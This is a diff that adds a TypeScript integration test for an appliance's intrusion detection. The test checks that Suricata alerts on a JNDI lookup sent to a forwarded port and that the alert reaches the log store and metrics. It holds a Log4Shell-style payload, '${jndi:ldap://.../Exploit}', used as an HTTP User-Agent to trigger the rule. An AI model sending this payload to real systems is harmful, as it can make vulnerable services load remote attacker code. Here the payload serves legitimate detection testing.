@@ -1,0 +1,153 @@
+/**
+ * The IDS's events on the appliance: with the observability pods running (the log store, the log collector and
+ * the node exporter: the observability area's pods), the rendered IDS pod's Suricata in IDS mode (AF_PACKET on
+ * the watched links) and its metrics agent. A JNDI lookup in an HTTP request from the internet to a forwarded
+ * port must be in the log store within 5 s as a structured alert record (source:ids, its sid, the attacker, and
+ * the community ID this test computes from the flow), and the node exporter must serve the agent's count of it.
+ *
+ * Stand-ins: the rules are the site's local rules where suricata-update would have left them (as in the ids
+ * area); the agent is the script of images/ids, as the image carries it. The block agent does not run here (the
+ * ids area proves blocking); the inline queue is not loaded, so the forwarded host answers.
+ */
+import { afterAll, beforeAll, expect, it } from "vitest";
+import { join } from "node:path";
+import { existsSync, readFileSync, writeFileSync } from "node:fs";
+import { nthAddress } from "../../../../components/site/ip";
+import { IDS_DAEMONSET } from "../../../../components/ids-stack/k8s";
+import { renderLocalRules, ROUTER_IDS_PATHS } from "../../../../components/ids-stack/suricata";
+import { OBSERVABILITY_PORTS } from "../../../../components/site/schema-observability";
+import { hostPort } from "../../../../components/observability-stack/targets";
+import { communityId } from "../../../ids/lib/community-id";
+import { waitFor } from "../../../helpers/wait";
+import { type Appliance, ROOT } from "../appliance";
+import type { Daemon } from "../exec";
+import { INTERNET } from "../internet";
+import type { Area } from "../suite";
+
+const SURICATA = `${IDS_DAEMONSET}-suricata-ids`;
+const AGENT = `${IDS_DAEMONSET}-metrics`;
+/** The last address of the IDS areas' pool, beyond the sources the ids area uses (this area blocks nothing). */
+const SOURCE = nthAddress(INTERNET.idsPool4, 30);
+const JNDI_SID = 9100003;
+
+/** A single-port TCP forward open to any internet source on every WAN, and where it leads. */
+function openForward(app: Appliance) {
+  const pf = app.site.portForwards.find(
+    (p) => p.protocol === "tcp" && !String(p.port).includes("-") && p.wans === undefined && p.sources === undefined,
+  );
+  return pf && { url: `http://${app.wans[0].addr4}:${pf.port}/` };
+}
+
+export const idsEvents: Area = {
+  title: "ids-events",
+  // the site's own JNDI rule (the dev site's local rules) is what the request must raise
+  appliesTo: (site) =>
+    site.ids.enabled &&
+    site.observability.enabled &&
+    site.ids.rules.local.some((r) => r.includes(`sid:${JNDI_SID};`)) &&
+    site.portForwards.some((p) => p.protocol === "tcp" && !String(p.port).includes("-") && !p.wans && !p.sources),
+  tests(ctx) {
+    const started: Daemon[] = [];
+    beforeAll(async () => {
+      const app = ctx.app;
+      app.exec(app.inet, ["ip", "addr", "replace", `${SOURCE}/32`, "dev", "lo"]);
+      writeFileSync(join(app.pods.hostPath(ROUTER_IDS_PATHS.rules), "suricata.rules"), renderLocalRules(app.site));
+      const agent = app.pods.spec(AGENT);
+      started.push(
+        app.pods.start({ ...agent, command: [join(ROOT, "images/ids", agent.command[0]), ...agent.command.slice(1)] }),
+      );
+      const d = app.pods.start(app.pods.spec(SURICATA));
+      started.push(d);
+      await waitFor(
+        `${SURICATA}'s engine`,
+        () => {
+          if (d.exited) throw new Error(`${SURICATA} exited:\n${d.log().slice(-3000)}`);
+          return d.log().includes("Engine started");
+        },
+        90_000,
+        200,
+      );
+    }, 120_000);
+    afterAll(async () => {
+      for (const d of started.reverse()) await d.stop();
+    }, 60_000);
+
+    it("a JNDI lookup from the internet to a forwarded port is in the log store within 5 s as an alert record with its community ID and sid, and counted in the node exporter's metrics", async () => {
+      const app = ctx.app;
+      const fwd = openForward(app)!;
+      const mgmt = app.client(app.plan.managementSegment);
+      const store = `http://${hostPort(app.plan.managementAddress, OBSERVABILITY_PORTS.logs)}`;
+      const eve = join(app.pods.hostPath(ROUTER_IDS_PATHS.logs), "ids", "eve.json");
+      // Suricata's own alert records in its file (the ids area's process wrote there too, of other sources)
+      const alertedInFile = () =>
+        existsSync(eve) &&
+        readFileSync(eve, "utf8")
+          .split("\n")
+          .filter((l) => l.includes('"event_type":"alert"'))
+          .map((l) => JSON.parse(l) as { src_ip: string; alert: { signature_id: number } })
+          .some((e) => e.src_ip === SOURCE && e.alert.signature_id === JNDI_SID);
+      const diagnosis = () =>
+        [
+          ...[...started, app.pods.running.get("log-collector-syslog-ng")].map(
+            (x) => `--- ${x?.name}\n${x?.log().slice(-1500)}`,
+          ),
+          `--- ${eve}\n${existsSync(eve) ? readFileSync(eve, "utf8").slice(-2000) : "(none)"}`,
+        ].join("\n");
+      const ua = "${jndi:ldap://198.51.100.7:1389/Exploit}";
+      const q = `source:ids event_type:alert src_ip:"${SOURCE}" alert.signature_id:${JNDI_SID}`;
+      const stored = async () => {
+        const r = await app.run(
+          mgmt.ns,
+          ["curl", "-sf", "--max-time", "2", `${store}/select/logsql/query`, "--data-urlencode", `query=${q}`],
+          { allowFail: true },
+        );
+        const rows = r.stdout.split("\n").filter(Boolean);
+        return rows.length ? (JSON.parse(rows[0]) as Record<string, string>) : undefined;
+      };
+      // A capture that has just started may miss a first connection; Suricata's own file says whether it alerted.
+      // Once it has, the record must be in the store within 5 s of the request.
+      let record: Record<string, string> | undefined;
+      let sent = 0;
+      let attempts = 0;
+      for (; attempts < 4 && !record; attempts++) {
+        sent = Date.now();
+        await app.run(
+          app.inet,
+          ["curl", "-s", "-o", "/dev/null", "-m", "2", "--interface", SOURCE, "-A", ua, fwd.url],
+          {
+            allowFail: true,
+          },
+        );
+        record = await waitFor("the alert in the log store", stored, 5_000, 200).catch(() => undefined);
+        if (!record && alertedInFile())
+          throw new Error(`Suricata alerted but the log store has no record within 5 s\n${diagnosis()}`);
+      }
+      if (!record) throw new Error(`Suricata raised no alert for four requests\n${diagnosis()}`);
+      const took = Date.now() - sent;
+      expect(took).toBeLessThanOrEqual(5_000);
+      const cid = communityId(record.src_ip, Number(record.src_port), record.dest_ip, Number(record.dest_port), 6);
+      expect(record).toMatchObject({
+        sensor: "suricata",
+        src_ip: SOURCE,
+        community_id: cid,
+        "alert.action": "allowed",
+      });
+      console.log(
+        `${ctx.title}: the alert from ${SOURCE} in the log store ${(took / 1000).toFixed(1)} s after it (request ${attempts} of 4)`,
+      );
+
+      const exporter = `http://${hostPort(app.plan.managementAddress, OBSERVABILITY_PORTS.nodeExporter)}/metrics`;
+      const sample = `router_ids_alerts_total{action="allowed",process="ids",severity="${record["alert.severity"]}"}`;
+      await waitFor(
+        `${sample} from the node exporter\n${diagnosis()}`,
+        async () => {
+          const r = await app.run(mgmt.ns, ["curl", "-sf", "--max-time", "2", exporter], { allowFail: true });
+          const line = r.stdout.split("\n").find((l) => l.startsWith(sample));
+          return line && Number(line.split(" ")[1]) >= 1 ? true : undefined;
+        },
+        30_000,
+        1000,
+      );
+    }, 90_000);
+  },
+};
